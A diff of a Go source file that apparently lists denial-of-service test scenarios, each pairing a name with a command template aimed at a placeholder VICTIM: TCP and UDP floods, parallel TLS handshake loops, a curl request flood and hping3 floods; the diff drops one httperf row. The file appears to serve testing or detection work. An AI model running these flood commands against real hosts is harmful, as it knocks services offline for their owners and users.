@@ -28,7 +28,6 @@ func otherFloods() []Scenario {
 		row("button-tcp", true, "CANNON tcp VICTIM 80 THREADS 50 SECS"),
 		row("button-udp", true, "CANNON udp VICTIM 80 THREADS 50 SECS"),
 		row("tls-handshakes", true, "for i in 1 2 3 4; do timeout SECS openssl s_time -connect VICTIM:443 -new -time 20 & done; wait"),
-		row("httperf", true, "timeout SECS httperf --server VICTIM --uri / --rate 150 --num-conn 20000 --timeout 2"),
 		row("curl-crowd", true, "for i in $(seq 25); do timeout SECS sh -c 'while :; do curl -s -o /dev/null http://VICTIM/search?q=a; done' & done; wait"),
 		row("gentle-icmp", true, "timeout SECS hping3 -q -1 -d 56 -i uGENTLE VICTIM"),
 		row("gentle-udp", true, "timeout SECS hping3 -q -2 -p 80 -d 100 -i uGENTLE VICTIM"),
